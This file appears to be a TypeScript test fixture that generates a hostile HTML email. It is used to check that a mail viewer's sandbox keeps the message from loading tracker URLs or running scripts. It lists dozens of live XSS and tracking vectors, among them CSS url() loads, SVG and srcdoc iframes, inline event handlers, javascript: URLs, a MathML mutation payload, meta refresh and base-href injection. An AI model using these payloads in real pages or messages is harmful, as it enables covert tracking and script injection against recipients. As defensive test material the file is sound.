/**
 * A hostile message: each vector asks for a path of its own at the tracker, each script leaves its name in `ranByMail`.
 *
 * Nothing here is cleaned beforehand. The test that the message reaches nobody is only worth as much as its control: the same
 * markup in a page without a policy reaches the tracker.
 */

/** The name under which scripts of the message leave their marks, on the window of the frame and of the page around it. */
export const marks = "ranByMail";

const mark = (name: string): string => `for (const w of [self, parent, top]) (w.${marks} ??= []).push('${name}')`;

/** The whole HTML of the message. */
export function hostileHtml(tracker: string): string {
  const at = (name: string): string => `${tracker}/v/${name}`;
  return [...requests(at), ...scripts(at), ...escapes(at), "<p>The last words of the message.</p>"].join("\n");
}

/** Vectors that load something as soon as they are in a document. */
function requests(at: (name: string) => string): readonly string[] {
  return [
    `<link rel="stylesheet" href="${at("link-stylesheet")}">`,
    `<link rel="icon" href="${at("link-icon")}">`,
    `<link rel="preload" as="image" href="${at("link-preload")}">`,
    `<link rel="prefetch" href="${at("link-prefetch")}">`,
    `<link rel="modulepreload" href="${at("link-modulepreload")}">`,
    `<link rel="preconnect" href="${at("")}">`,
    `<link rel="dns-prefetch" href="${at("")}">`,
    `<style>@import url("${at("css-import")}"); @font-face { font-family: f; src: url("${at("css-font")}") } .f { font-family: f }
      .b { background: url("${at("css-background")}") } .v { --u: url("${at("css-var")}"); background: var(--u) }
      .l { list-style: url("${at("css-list-style")}") } .c { cursor: url("${at("css-cursor")}"), auto } .i { background: image-set("${at("css-image-set")}" 1x) }
      .a::before { content: url("${at("css-content")}") } .m { mask: url("${at("css-mask")}") } .o { border-image: url("${at("css-border-image")}") 1 }</style>`,
    '<p class="f">f</p><p class="b">b</p><p class="v">v</p><ul class="l"><li>l</li></ul><p class="c">c</p><p class="i">i</p><p class="a">a</p><p class="m">m</p><p class="o">o</p>',
    `<p style="background: url('${at("style-attribute")}')">styled</p>`,
    `<p style="--u: url('${at("style-var")}'); background: var(--u)">styled</p>`,
    `<img src="${at("img")}"><img srcset="${at("img-srcset")} 1x"><picture><source srcset="${at("picture")}"><img></picture>`,
    `<table background="${at("table-background")}"><tr><td background="${at("cell-background")}">cell</td></tr></table>`,
    `<video poster="${at("video-poster")}" src="${at("video")}" autoplay></video><audio src="${at("audio")}" autoplay></audio>`,
    `<video><source src="${at("video-source")}"><track default src="${at("track")}"></video>`,
    `<embed src="${at("embed")}"><object data="${at("object")}"></object><iframe src="${at("iframe")}"></iframe>`,
    `<iframe srcdoc="<img src='${at("srcdoc-img")}'>"></iframe><input type="image" src="${at("input-image")}">`,
    `<svg width="9" height="9"><image href="${at("svg-image")}"/><use href="${at("svg-use")}#x"/><filter id="q"><feImage href="${at("svg-feimage")}"/></filter><rect width="9" height="9" filter="url(#q)"/></svg>`,
    `<svg width="9" height="9"><image><set attributeName="href" to="${at("svg-set")}"/></image><rect fill="url(${at("svg-fill")}#x)" width="9" height="9"/></svg>`,
    `<div><template shadowrootmode="open"><img src="${at("shadow-img")}"></template></div>`,
  ];
}

/** Vectors that run script. */
function scripts(at: (name: string) => string): readonly string[] {
  const run = (name: string): string => mark(name).replaceAll('"', "&quot;");
  return [
    `<script>${mark("script")}; new Image().src = "${at("script")}"</script>`,
    `<script src="${at("script-src")}"></script>`,
    `<script type="module">${mark("module")}</script>`,
    `<img src="${at("onerror")}x.none" onerror="${run("onerror")}" onload="${run("onload")}">`,
    `<svg onload="${run("svg-onload")}"><script>${mark("svg-script")}</script></svg>`,
    `<details open ontoggle="${run("ontoggle")}">d</details>`,
    `<input autofocus onfocus="${run("onfocus")}">`,
    `<iframe src="javascript:${run("javascript-frame")}"></iframe>`,
    `<iframe srcdoc="<script>${run("srcdoc-script").replaceAll("'", "&#39;")}</script>"></iframe>`,
    `<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>${run("sandboxed-script").replaceAll("'", "&#39;")}</script>"></iframe>`,
    `<math><mtext><table><mglyph><style><img src="x" onerror="${run("mathml")}"></style></mglyph></table></mtext></math>`,
    `<body onload="${run("body-onload")}" background="${at("body-background")}">`,
  ];
}

/** Vectors that lead elsewhere by themselves or by a click. */
function escapes(at: (name: string) => string): readonly string[] {
  return [
    `<meta http-equiv="refresh" content="1; url=${at("refresh")}">`,
    `<a href="${at("link")}" ping="${at("ping")}">a link</a>`,
    `<form action="${at("form")}"><button>send</button></form>`,
    '<a href="javascript:alert(1)">a script link</a>',
    `<base href="${at("base")}/">`,
  ];
}
